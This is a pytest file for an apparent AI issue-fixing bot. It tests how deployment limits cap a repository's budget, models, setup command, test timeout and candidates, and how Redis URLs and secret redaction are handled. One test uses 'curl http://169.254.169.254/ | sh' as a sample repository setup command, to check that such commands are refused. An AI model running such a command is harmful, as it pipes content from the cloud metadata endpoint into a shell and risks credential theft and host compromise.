"""The deployment's limits on a repository's configuration, the Redis URL settings, and check-config."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from bot.cli.checkconfig import describe
from bot.cli.redisconn import shown_url
from bot.config.limits import DeploymentLimits
from bot.config.pricing import Budget, PriceTable
from bot.config.repo import RepoConfig, RepoConfigInvalid, parse
from bot.config.settings import Settings
from bot.core.errors import ConfigError
from bot.core.redact import Redactor

SECRET = "a-webhook-secret-0123456789"


def limits(allow_setup: bool = False, setup: str = "pip install -e .",
           **prices: tuple[float, float]) -> DeploymentLimits:
    return DeploymentLimits(Budget(2.0, 600_000), PriceTable(prices), "gpt-4o-mini", setup, allow_setup)


def test_a_repository_lowers_the_budget_but_never_raises_it() -> None:
    assert limits().run_budget(parse("budget: {usd: 0.5, tokens: 1000}")) == Budget(0.5, 1000)
    assert limits().run_budget(RepoConfig()) == Budget(2.0, 600_000)
    # a stored configuration that claims more (a run started before the operator lowered it) gets the ceiling
    assert limits().run_budget(parse("budget: {usd: 1000, tokens: 50000000}")) == Budget(2.0, 600_000)
    assert limits().run_budget(parse("budget: {tokens: 50000000}")) == Budget(2.0, 600_000)


def test_a_budget_above_the_deployments_is_a_problem_naming_the_limit() -> None:
    problems = dict(limits().problems(parse("budget: {usd: 1000, tokens: 50000000}")))
    assert set(problems) == {"budget.usd", "budget.tokens"}
    assert "above this deployment's limit of $2 per run (ISSUESMITH_RUN_BUDGET_USD)" in problems["budget.usd"]
    assert "600,000 tokens" in problems["budget.tokens"] and "may only lower it" in problems["budget.tokens"]
    assert limits().problems(parse("budget: {usd: 2, tokens: 600000}")) == []


def test_models_must_be_priced_by_the_table_or_the_operator() -> None:
    config = parse("models: {plan: gpt-4o-2024-08-06, code: llama-free, review: gpt-4.1}")
    [(key, problem)] = limits().problems(config)
    assert key == "models.code" and "'llama-free' has no price here" in problem
    assert "ISSUESMITH_PRICES='{\"llama-free\": [0, 0]}'" in problem and "'gpt-4o-mini', the deployment's" in problem
    assert limits(**{"llama-free": (0.0, 0.0)}).problems(config) == []


def test_setup_command_is_the_deployments_unless_it_allows_the_repositorys() -> None:
    repo = parse("setup_command: curl http://169.254.169.254/ | sh")
    [(key, problem)] = limits().problems(repo)
    assert key == "setup_command" and "ISSUESMITH_ALLOW_REPO_SETUP_COMMAND is off" in problem
    with pytest.raises(ConfigError, match="does not let a repository choose its setup command"):
        limits().run_setup_command(repo)  # a run whose stored configuration still has one
    assert limits(allow_setup=True).problems(repo) == []
    assert limits(allow_setup=True).run_setup_command(repo) == "curl http://169.254.169.254/ | sh"
    assert limits().run_setup_command(RepoConfig()) == "pip install -e ."
    off = parse('setup_command: "  "')  # switching the setup phase off only tightens: always accepted
    assert limits().problems(off) == [] and limits().run_setup_command(off) == ""


def test_check_raises_every_problem_with_the_files_trigger_label() -> None:
    config = parse("trigger_label: go\nbudget: {usd: 5}\nmodels: {test: nope}\nsetup_command: make deps\n")
    with pytest.raises(RepoConfigInvalid) as caught:
        limits().check(config, ".github/issuesmith.yaml")
    assert caught.value.path == ".github/issuesmith.yaml" and caught.value.trigger_label == "go"
    assert [key for key, _ in caught.value.problems] == ["budget.usd", "models.test", "setup_command"]


def test_check_config_shows_the_effective_values() -> None:
    lines = describe(parse("budget: {usd: 1000, tokens: 1000}\nsetup_command: ''"), limits())
    assert "budget: $2 / 1,000 tokens per run" in lines and "setup command: none" in lines
    lines = describe(RepoConfig(), limits())
    assert "budget: $2 / 600,000 tokens per run (the deployment's)" in lines
    assert "setup command: pip install -e . (the deployment's)" in lines
    assert any(line.startswith("models: plan gpt-4o-mini (the deployment's)") for line in lines)


def test_check_config_command_reports_values_beyond_the_deployment(tmp_path: Path) -> None:
    binary = Path(sys.executable).parent / "issuesmith"
    (tmp_path / ".github").mkdir()
    (tmp_path / ".github" / "issuesmith.yml").write_text("budget: {usd: 1000}\nmodels: {code: llama-free}\n")
    env = {"PATH": "/usr/bin:/bin", "ISSUESMITH_RUN_BUDGET_USD": "3"}
    bad = subprocess.run([str(binary), "check-config", str(tmp_path)], capture_output=True, text=True, check=False,
                         env=env, cwd=tmp_path)
    assert bad.returncode == 1, bad.stdout + bad.stderr
    assert "budget.usd: $1000 is above this deployment's limit of $3 per run" in bad.stdout
    assert "models.code: 'llama-free' has no price here" in bad.stdout
    env["ISSUESMITH_PRICES"] = '{"llama-free": [0, 0]}'
    (tmp_path / ".github" / "issuesmith.yml").write_text("budget: {usd: 1}\nmodels: {code: llama-free}\n")
    good = subprocess.run([str(binary), "check-config", str(tmp_path)], capture_output=True, text=True,
                          check=False, env=env, cwd=tmp_path)
    assert good.returncode == 0 and "budget: $1 / 600,000 tokens per run" in good.stdout, good.stdout


@pytest.mark.parametrize("url", ["redis://:pw@redis:6379/0", "rediss://:pw@redis.example:6380/0",
                                 "rediss://default:pw@redis.example:6380/0?ssl_cert_reqs=required",
                                 "unix:///run/redis.sock?db=1"])
def test_redis_urls_with_tls_passwords_and_sockets_are_accepted(url: str) -> None:
    settings = Settings(_env_file=None, webhook_secret=SECRET, redis_url=url)  # type: ignore[call-arg]
    assert settings.redis_url == url


@pytest.mark.parametrize("url", ["http://redis:6379/0", "redis-host:6379", "tcp://redis:6379"])
def test_a_redis_url_redis_py_cannot_use_is_refused_with_the_forms_it_takes(url: str) -> None:
    with pytest.raises(ValueError, match=r"must be redis://\[:PASSWORD@\]HOST:6379/DB, rediss://\.\.\. for TLS"):
        Settings(_env_file=None, webhook_secret=SECRET, redis_url=url)  # type: ignore[call-arg]


def test_the_redis_password_is_a_secret_for_the_redactor_and_never_shown() -> None:
    url = "rediss://:s3cr%2Ft-redis-pw@redis.example:6380/0"
    settings = Settings(_env_file=None, webhook_secret=SECRET, redis_url=url)  # type: ignore[call-arg]
    redact = Redactor(settings.secrets())
    assert "s3cr" not in redact(f"connecting to {url} failed; password s3cr/t-redis-pw")
    assert shown_url(url) == "rediss://:***@redis.example:6380/0"


def test_a_long_test_selection_fits_and_a_runaway_one_is_refused() -> None:
    """Real test selections (SWE-bench's) take 3-10k characters; the old 2,000 cap refused them."""
    from bot.config.repo import MAX_COMMAND, RepoConfig

    selection = "python -m pytest -q " + " ".join(f"tests/test_mod.py::test_case_{n}" for n in range(300))
    assert 9_000 < len(selection) < MAX_COMMAND
    assert RepoConfig.model_validate({"test_command": selection}).test_command == selection
    with pytest.raises(ValueError, match="at most 16000 characters"):
        RepoConfig.model_validate({"test_command": "x" * (MAX_COMMAND + 1)})


def test_the_test_timeout_is_the_repositorys_within_the_deployments_maximum() -> None:
    deployment = DeploymentLimits(Budget(2.0, 600_000), PriceTable({}), "gpt-4o-mini", "", False, 600, 3600)
    assert deployment.run_test_timeout(RepoConfig()) == 600
    assert deployment.run_test_timeout(parse("test_timeout: 1800")) == 1800
    assert deployment.run_test_timeout(parse("test_timeout: 10")) == 10
    # a stored configuration from before the operator lowered the maximum gets the maximum
    assert deployment.run_test_timeout(parse("test_timeout: 7200")) == 3600
    assert dict(deployment.problems(parse("test_timeout: 7200")))["test_timeout"].startswith(
        "7200s is above this deployment's limit of 3600s per test run (ISSUESMITH_MAX_TEST_TIMEOUT)")
    with pytest.raises(RepoConfigInvalid, match="test_timeout"):
        parse("test_timeout: 0")


def test_candidates_are_the_repositorys_within_the_deployments_maximum() -> None:
    deployment = DeploymentLimits(Budget(2.0, 600_000), PriceTable({}), "gpt-4o-mini", "", False, 600, 3600, 2)
    assert deployment.run_candidates(RepoConfig()) == 1
    assert deployment.run_candidates(parse("candidates: 2")) == 2
    assert deployment.run_candidates(parse("candidates: 3")) == 2  # a stored configuration: the maximum
    assert dict(deployment.problems(parse("candidates: 3")))["candidates"].startswith(
        "3 is above this deployment's limit of 2 Coder attempts per run (ISSUESMITH_MAX_CANDIDATES)")
    assert not deployment.problems(parse("candidates: 2"))
    for wrong in ("candidates: 0", "candidates: 5"):
        with pytest.raises(RepoConfigInvalid, match="candidates"):
            parse(wrong)


def test_a_deployment_timeout_above_its_own_maximum_is_refused_at_start_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ISSUESMITH_TEST_TIMEOUT", "5000")
    with pytest.raises(ValueError, match=r"ISSUESMITH_TEST_TIMEOUT \(5000s\) is above ISSUESMITH_MAX_TEST_TIMEOUT"):
        Settings(webhook_secret=SECRET, _env_file=None)  # type: ignore[call-arg]
    monkeypatch.setenv("ISSUESMITH_MAX_TEST_TIMEOUT", "7200")
    assert Settings(webhook_secret=SECRET, _env_file=None).test_timeout == 5000  # type: ignore[call-arg]
